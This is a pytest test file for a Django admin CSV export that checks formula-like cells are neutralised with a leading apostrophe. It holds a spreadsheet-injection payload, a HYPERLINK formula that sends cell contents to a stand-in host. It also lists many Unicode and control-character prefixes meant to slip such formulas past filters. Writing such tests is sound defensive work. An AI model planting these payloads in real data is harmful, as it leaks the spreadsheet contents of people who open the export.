"""A stranger wants the spreadsheet of a support agent to compute what they have called themselves."""

import pytest

from django_ding.admin.csv_export import csv_response

FORMULA = 'HYPERLINK("https://example.com/?"&A1)'


def cell(text):
    """Return how a CSV export writes a text."""
    response = csv_response("file", ["name"], [[[text]]])
    return b"".join(response.streaming_content).decode().splitlines()[1]


@pytest.mark.parametrize("sign", "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻−")
@pytest.mark.parametrize(
    "before", ["", " ", "   ", "\t", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\x01", " \x7f\u2003"]
)
def test_formula_is_text(before, sign):
    assert cell(f"{before}{sign}{FORMULA}").strip('"').startswith("'")


@pytest.mark.parametrize("before", "\t\r\n")
def test_what_begins_with_a_control_character_is_text(before):
    assert cell(f"{before}a").strip('"').startswith("'")


@pytest.mark.parametrize("text", ["alice", " alice", "a=b", "1+1", "Ａ＝Ｂ", "", "x@example.com"])
def test_other_texts_stay_as_they_are(text):
    assert cell(text).strip('"') == text
